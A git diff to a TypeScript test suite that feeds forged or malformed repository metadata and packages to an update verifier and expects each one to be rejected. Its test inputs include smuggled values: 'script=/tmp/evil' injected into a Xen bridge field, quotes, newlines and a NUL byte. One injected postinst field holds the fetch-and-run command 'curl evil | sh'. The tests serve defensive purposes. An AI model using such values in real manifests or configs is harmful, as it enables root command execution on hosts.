@@ -23,7 +23,7 @@ import { join } from 'node:path';
 import { execa } from 'execa';
 import tar from 'tar-stream';
 import { createReadStream } from 'node:fs';
-import { compressChunk, zstdCompressBound, packLayout, indexHistoryPath, rootHistoryPath, type Index, type Manifest, type HttpFetcherOptions } from '../../format/index.js';
+import { RepositoryWriter, compressChunk, zstdCompressBound, packLayout, indexHistoryPath, rootHistoryPath, type Index, type Manifest, type HttpFetcherOptions } from '../../format/index.js';
 import {
   buildWorld, hostileServer, context, copyHost, hostConfig, hashTree, diffTrees, SKIP, normalizedState, stagingHoldsOnlyVerifiedBytes,
   runningBackend, agentFor, runCli, fileSha, limiter, repointSbc2, manifestRel, chunkRel, packRel, exitCodeFor, sigPath, signDetached,
@@ -237,6 +237,17 @@ const attacks: Attack[] = [
     },
     exit: 3, code: 'ROLLBACK', where: INDEX_URL, message: /index version 3 is older than version/,
   },
+  {
+    // the team's second repository, made from the same key store, genuine and newer: its files are not this repository's
+    name: 'index: another repository made from the same keys (swapped in)',
+    prepare: async (c) => {
+      const other = join(c.tree, '..', `${c.tree.split('/').pop()}-other-repo`);
+      const writer = await RepositoryWriter.init(other, await signRoot(await buildRoot(c.world.keystore, 1), c.world.rootKeys), { indexKeys: c.world.indexKeys });
+      for (let i = 0; i < c.world.indexVersion + 2; i++) await writer.resign();
+      for (const f of ['root.json', 'root.json.asc', 'index.json', 'index.json.asc', rootHistoryPath(1), sigPath(rootHistoryPath(1))]) await c.write(f, await readFile(join(other, f)));
+    },
+    exit: 3, code: 'WRONG_REPOSITORY', where: INDEX_URL, message: /belongs to repository [0-9a-f]{32}, not to the trusted repository [0-9a-f]{32}/,
+  },
   { name: 'index: signed under a root version the host does not have', prepare: craftedIndex((i) => { i.root_version = 5; }), exit: 3, code: 'ROOT_CHAIN', where: INDEX_URL },
   { name: 'index: malformed JSON (validly signed)', prepare: async (c) => c.writeIndex(Buffer.from('{"type": "loopship/index", "version": ')), exit: 3, code: 'METADATA_INVALID', where: INDEX_URL },
   { name: 'index: wrong types (validly signed)', prepare: craftedIndex((i) => { (i as Record<string, unknown>).root_version = '1'; }), exit: 3, code: 'METADATA_INVALID', where: INDEX_URL, message: /root_version/ },
@@ -260,7 +271,7 @@ const attacks: Attack[] = [
     name: 'root: forged rotation (new keys only)',
     prepare: async (c) => {
       const evil = await Keystore.init(join(c.tree, '..', `evil-keys-${Math.random()}`), { rootKeys: 1 });
-      const r = await signRoot(await buildRoot(evil, 2), await evil.signingKeys('root'));
+      const r = await signRoot(await buildRoot(evil, 2, { repository: c.world.repository }), await evil.signingKeys('root'));
       await c.write(rootHistoryPath(2), r.bytes);
       await c.write(sigPath(rootHistoryPath(2)), r.signature);
     },
@@ -269,7 +280,7 @@ const attacks: Attack[] = [
   {
     name: 'root: rotation below threshold (1 of 2 root keys)',
     prepare: async (c) => {
-      const r = await signRoot(await buildRoot(c.world.keystore, 2), c.world.rootKeys.slice(0, 1));
+      const r = await signRoot(await buildRoot(c.world.keystore, 2, { repository: c.world.repository }), c.world.rootKeys.slice(0, 1));
       await c.write(rootHistoryPath(2), r.bytes);
       await c.write(sigPath(rootHistoryPath(2)), r.signature);
     },
@@ -278,7 +289,7 @@ const attacks: Attack[] = [
   {
     name: 'root: missing link (root.json is v3, root/2.json absent)',
     prepare: async (c) => {
-      const r = await signRoot(await buildRoot(c.world.keystore, 3), c.world.rootKeys);
+      const r = await signRoot(await buildRoot(c.world.keystore, 3, { repository: c.world.repository }), c.world.rootKeys);
       await c.write(rootHistoryPath(3), r.bytes);
       await c.write(sigPath(rootHistoryPath(3)), r.signature);
       await c.write('root.json', r.bytes);
@@ -289,7 +300,7 @@ const attacks: Attack[] = [
   {
     name: 'root: link holding another version',
     prepare: async (c) => {
-      const r = await signRoot(await buildRoot(c.world.keystore, 3), c.world.rootKeys);
+      const r = await signRoot(await buildRoot(c.world.keystore, 3, { repository: c.world.repository }), c.world.rootKeys);
       await c.write(rootHistoryPath(2), r.bytes);
       await c.write(sigPath(rootHistoryPath(2)), r.signature);
     },
@@ -314,6 +325,12 @@ const attacks: Attack[] = [
   { name: 'manifest: chunk past the end of the image', prepare: craftedManifest((m) => { m.image.chunks.at(-1)!.offset = m.image.size; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, late: true },
   { name: 'manifest: chunk longer than 8 MiB', prepare: craftedManifest((m) => { m.image.chunks[0].length = 16 * 1024 * 1024; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, late: true },
   { name: 'manifest: huge counts (50,001 packages)', prepare: craftedManifest((m) => { m.build.packages = Array.from({ length: 50_001 }, (_, i) => ({ name: `p${i}`, version: '1' })); }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, late: true },
+  // a publisher key may ship a bad guest, never a dom0 program: fields that reach xl are held to what they can mean there
+  { name: 'manifest: bridge with xl vif options (script= would run as root in dom0)', prepare: craftedManifest((m) => { m.xen.network.bridge = 'xenbr0,script=/tmp/evil,backend=0'; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, message: /xen\.network\.bridge: expected a network interface name/, late: true },
+  { name: 'manifest: bridge with a quote and a space', prepare: craftedManifest((m) => { m.xen.network.bridge = 'br0" extra="x'; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, message: /xen\.network\.bridge/, late: true },
+  // refused when the manifest is verified: before anything running is stopped (it used to fail at boot, after the stop)
+  { name: 'manifest: line break in the kernel command line', prepare: craftedManifest((m) => { m.boot.cmdline += '\non_crash = "preserve"'; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, message: /boot\.cmdline: expected one line/, late: true },
+  { name: 'manifest: NUL in the ready marker', prepare: craftedManifest((m) => { m.boot.ready_marker = 'READY\u0000'; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, message: /boot\.ready_marker/, late: true },
   { name: 'manifest: unknown field', prepare: craftedManifest((m) => { m.postinst = 'curl evil | sh'; }), exit: 3, code: 'METADATA_INVALID', where: () => /manifests\/[0-9a-f]{64}\.json/, message: /postinst/, late: true },
 
   // ----- chunks -----
@@ -354,6 +371,9 @@ const attacks: Attack[] = [
   { name: 'import: hard link entry', importTar: (c) => hostileTar(c, (e) => { e.splice(2, 0, { name: 'chunks/ab/hard', type: 'link', linkname: 'manifest.json' }); }), exit: 3, code: 'PACKAGE_INVALID', where: () => /hostile\.tar/ },
   { name: 'import: device file entry', importTar: (c) => hostileTar(c, (e) => { e.splice(2, 0, { name: 'chunks/ab/sda', type: 'block-device' }); }), exit: 3, code: 'PACKAGE_INVALID', where: () => /hostile\.tar/ },
   { name: 'import: manifest signed by an unknown key', importTar: (c) => hostileTar(c, async (e) => { e[1].data = Buffer.from(await signDetached(e[0].data!, [c.world.stranger])); }), exit: 3, code: 'UNKNOWN_KEY', where: () => /hostile\.tar/ },
+
+  // one trust decision for every path: an offline package is held to the root's expiry like an update
+  { name: 'import: the trusted root has expired (host clock past it)', importTar: async (c) => c.world.sbc2Tar, now: () => new Date(Date.now() + 400 * 86_400_000), exit: 3, code: 'EXPIRED', where: () => /state\/trust\/root\.json/, message: /root expired at/ },
 
   // ----- mirrors -----
   {
